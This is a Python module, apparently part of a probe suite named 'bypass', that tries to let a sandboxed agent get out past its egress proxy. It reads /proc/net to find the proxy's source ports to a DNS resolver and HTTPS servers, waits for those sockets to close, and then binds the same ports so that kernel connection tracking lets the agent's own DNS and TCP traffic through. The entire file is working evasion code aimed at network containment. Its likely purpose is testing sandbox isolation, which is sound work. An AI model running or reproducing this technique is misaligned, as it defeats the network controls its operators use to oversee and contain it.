"""Attempts to inherit what the proxy was let out with: its connections in the kernel's memory.

The connection tracker remembers a connection for a while after its socket has gone. A program that
takes the same source port to the same destination looks like the same connection to it. The agent
can see the proxy's ports: /proc/net shows every socket of the network namespace.
"""

import socket
import struct
import threading
import time
from typing import Final

from bypass.probes.hello import client_hello
from bypass.probes.tunnels import connect, target
from bypass.probes.ways import query, tcp
from bypass.probes.wire import Heard, How, own_address, prepared, sent

_WATCH_SECONDS: Final = 8.0
_CLOSE_SECONDS: Final = 12.0


def _place(text: str) -> tuple[str, int]:
    address, port = text.split(":")
    return socket.inet_ntoa(struct.pack("<I", int(address, 16))), int(port, 16)


def ports_to(table: str, address: str, port: int) -> set[int]:
    """Local ports of the sockets that are connected there, whoever owns them."""
    with open(f"/proc/net/{table}") as file:
        rows = [line.split() for line in file][1:]
    return {_place(row[1])[1] for row in rows if _place(row[2]) == (address, port)}


def _watched(table: str, address: str, port: int, stop: threading.Event) -> set[int]:
    seen: set[int] = set()
    end = time.monotonic() + _WATCH_SECONDS
    while not stop.is_set() and time.monotonic() < end:
        seen |= ports_to(table, address, port)
    return seen


def _gone(table: str, address: str, port: int) -> bool:
    end = time.monotonic() + _CLOSE_SECONDS
    while ports_to(table, address, port) and time.monotonic() < end:
        time.sleep(0.01)
    return not ports_to(table, address, port)


def resolver(address: str, host: str, leaked: str) -> Heard:
    """Asks the resolver from the port from which the proxy has just asked."""
    stop = threading.Event()

    def look() -> None:
        target(f"{host}:443", host)
        stop.set()

    looking = threading.Thread(target=look)
    looking.start()
    ports = _watched("udp", address, 53, stop)
    stop.set()
    looking.join()
    if not ports:
        return Heard("untried", "", "no socket of the proxy to the resolver was seen")
    _gone("udp", address, 53)
    heard = [_ask(address, leaked, port) for port in sorted(ports)]
    return next((h for h in heard if h.outcome == "through"), heard[0])


def _ask(address: str, leaked: str, port: int) -> Heard:
    def ask(made: socket.socket) -> str:
        made.connect((address, 53))
        made.send(query(leaked))
        made.settimeout(1.0)
        return f"{len(made.recv(4096))} bytes came back to port {port}"

    how = How(source=(own_address(), port), kind=socket.SOCK_DGRAM)
    try:
        return sent(prepared(address, how), ask)
    except OSError as error:
        return Heard("refused", "kernel", f"bind to port {port}: {error.strerror}")


def server(host: str, address: str) -> Heard:
    """Dials a listed server from the port from which the proxy has just dialled it."""
    status, connection = connect(f"{host}:443")
    with connection:
        if status != 200:
            return Heard("untried", "", f"HTTP {status}")
        connection.sendall(client_hello(host))
        ports = _watched_once("tcp", address)
        connection.settimeout(_CLOSE_SECONDS)
        _drained(connection)
    if not ports:
        return Heard("untried", "", "no socket of the proxy to the server was seen")
    _gone("tcp", address, 443)
    port = min(ports)
    heard = tcp(address, 443, source=[own_address(), port], option="reuse")
    return heard._replace(detail=f"{heard.detail}, from port {port}")


def _watched_once(table: str, address: str) -> set[int]:
    end = time.monotonic() + _WATCH_SECONDS
    while time.monotonic() < end:
        if found := ports_to(table, address, 443):
            return found
    return set()


def _drained(connection: socket.socket) -> None:
    try:
        while connection.recv(65536):
            pass
    except OSError:
        return
